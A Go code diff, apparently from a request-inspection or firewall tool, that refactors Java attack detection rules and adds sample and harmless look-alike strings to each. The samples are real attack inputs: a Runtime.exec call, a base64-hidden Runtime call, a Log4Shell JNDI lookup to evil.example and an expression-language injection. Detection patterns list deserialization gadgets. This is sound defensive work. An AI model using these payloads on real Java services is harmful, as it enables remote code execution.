@@ -16,28 +16,35 @@ const javaGadgets = "processbuilder processimpl unixprocess getruntime clonetran
 // javaBase64Words are what a base64 blob in a request should not hide.
 var javaBase64Words = byteWords(javaGadgets + " runtime java.lang")
 
-var javaRules = []ruleSpec{
-	{id: "java-class-name", class: Java, pl: 1, score: critical, where: tAll, view: viewLow,
+var javaRules = ruleTable{class: Java, rules: []ruleSpec{
+	{id: "java-class-name", pl: 1, score: critical, where: tAll, view: viewLow,
 		keywords: words("com.opensymphony java. javax. jdk. sun. org.omg org.apache org.springframework org.codehaus com.mchange com.fasterxml org.hibernate ognl. bsh. groovy. clojure."),
-		pattern:  `\b(?:java|javax|jdk|sun)\.[a-z_$][\w$]*\.[\w$]|\bcom\.opensymphony\.\w|\borg\.apache\.(?:commons|struts\d?)\b|\b(?:com\.sun|org\.omg|org\.apache\.(?:commons\.(?:collections\d*|beanutils|fileupload)|xalan|xbean|naming|tomcat|catalina|batik|myfaces|wicket|shiro)|org\.springframework|org\.codehaus\.groovy|com\.mchange|com\.fasterxml\.jackson\.databind|org\.hibernate|ognl|bsh|groovy\.lang|clojure\.(?:core|lang))\.[\w$]`},
-	{id: "java-gadget-name", class: Java, pl: 1, score: critical, where: tAll, view: viewLow,
-		keywords: words(javaGadgets)},
-	{id: "java-runtime-method", class: Java, pl: 1, score: critical, where: tAll, view: viewLow,
+		pattern:  `\b(?:java|javax|jdk|sun)\.[a-z_$][\w$]*\.[\w$]|\bcom\.opensymphony\.\w|\borg\.apache\.(?:commons|struts\d?)\b|\b(?:com\.sun|org\.omg|org\.apache\.(?:commons\.(?:collections\d*|beanutils|fileupload)|xalan|xbean|naming|tomcat|catalina|batik|myfaces|wicket|shiro)|org\.springframework|org\.codehaus\.groovy|com\.mchange|com\.fasterxml\.jackson\.databind|org\.hibernate|ognl|bsh|groovy\.lang|clojure\.(?:core|lang))\.[\w$]`,
+		sample:   `java.lang.Runtime`, lookAlike: `download java.com`},
+	{id: "java-gadget-name", pl: 1, score: critical, where: tAll, view: viewLow,
+		keywords: words(javaGadgets),
+		sample:   `ProcessBuilder`, lookAlike: `process builder`},
+	{id: "java-runtime-method", pl: 1, score: critical, where: tAll, view: viewLow,
 		keywords: words("runtime"),
-		pattern:  `\bruntime\s*[.(]\s*(?:getruntime|exec|\w*closure|\w*transformer|\w*factory)|\bruntime\.\w+\s*\(`},
-	{id: "java-serialized-magic", class: Java, pl: 1, score: critical, where: tAll, view: viewLow,
+		pattern:  `\bruntime\s*[.(]\s*(?:getruntime|exec|\w*closure|\w*transformer|\w*factory)|\bruntime\.\w+\s*\(`,
+		sample:   `Runtime.getRuntime().exec("id")`, lookAlike: `runtime error`},
+	{id: "java-serialized-magic", pl: 1, score: critical, where: tAll, view: viewLow,
 		keywords: words("aced0005 ro0ab kztaau cs7qaf"),
+		sample:   `rO0ABXNy`, lookAlike: `aced0004`,
 	},
-	{id: "java-base64-payload", class: Java, pl: 1, score: critical, where: tArgs | THeader | TFilename, view: viewDec,
-		needs: cUpper | cLower | cLong, // see base64Kind
-		check: base64HidesJava},
-	{id: "java-log4shell", class: Java, pl: 1, score: critical, where: tAll, view: viewLow,
+	{id: "java-base64-payload", pl: 1, score: critical, where: tArgs | THeader | TFilename, view: viewDec,
+		needs:  cUpper | cLower | cLong, // see base64Kind
+		check:  base64HidesJava,
+		sample: `eD1qYXZhLmxhbmcuUnVudGltZS5nZXRSdW50aW1lKCk=`, lookAlike: `SGVsbG8sIGhlcmUgaXMgYSBwbGFpbiBub3Rl`},
+	{id: "java-log4shell", pl: 1, score: critical, where: tAll, view: viewLow,
 		keywords: words("${"),
-		check:    log4jLookup},
-	{id: "java-expression-language", class: Java, pl: 1, score: critical, where: tAll, view: viewLow,
+		check:    log4jLookup,
+		sample:   `${jndi:ldap://evil.example/a}`, lookAlike: `${user.name}`},
+	{id: "java-expression-language", pl: 1, score: critical, where: tAll, view: viewLow,
 		keywords: words("#{ %{ ${ #_memberaccess #context @java class.module class.classloader .getclass( forname("),
-		pattern:  `[#$%]\{[^}]*(?:runtime|getclass|classloader|forname|processbuilder|exec\s*\(|@java|#_memberaccess|#context|getenv|scriptengine)|#_memberaccess|#context\[|\bclass\.(?:module\.)?classloader\b|\.getclass\s*\(\s*\)\s*\.|\bclass\.forname\s*\(`},
-}
+		pattern:  `[#$%]\{[^}]*(?:runtime|getclass|classloader|forname|processbuilder|exec\s*\(|@java|#_memberaccess|#context|getenv|scriptengine)|#_memberaccess|#context\[|\bclass\.(?:module\.)?classloader\b|\.getclass\s*\(\s*\)\s*\.|\bclass\.forname\s*\(`,
+		sample:   `#{T(java.lang.Runtime)}`, lookAlike: `#{total}`},
+}}
 
 // log4jLookup finds a ${jndi:...} lookup after undoing the nesting Log4j
 // resolves: ${lower:j}, ${::-j}, ${env:X:-j} and friends all yield "j".
